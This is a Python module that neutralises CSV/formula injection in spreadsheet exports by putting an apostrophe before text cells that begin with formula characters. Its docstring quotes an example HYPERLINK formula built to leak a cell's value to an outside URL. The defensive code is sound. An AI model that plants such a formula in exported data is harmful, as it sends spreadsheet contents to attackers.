"""Spreadsheet cells that cannot become formulas (CSV/formula injection, OWASP).

A delivered ``=HYPERLINK("http://…/?leak="&B2,"click")`` must reach Excel as text: text that
begins with ``=``, ``+``, ``-``, ``@`` (or a tab / carriage return, which Excel strips before
looking) gets a leading apostrophe. Numbers, dates and other non-text values are left alone.
"""

from __future__ import annotations

import datetime as dt
import json
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def neutralise_row(row: Any) -> list[Any]:
    return [neutralise(value) for value in row]


def cell_value(value: Any) -> Any:
    """A database value as a safe spreadsheet cell (lists and JSON as text)."""
    if isinstance(value, (list, dict)):
        value = json.dumps(value, ensure_ascii=False, default=str)
    elif isinstance(value, dt.datetime) and value.tzinfo is not None:
        value = value.isoformat()  # openpyxl refuses time-zone-aware datetimes
    return neutralise(value)
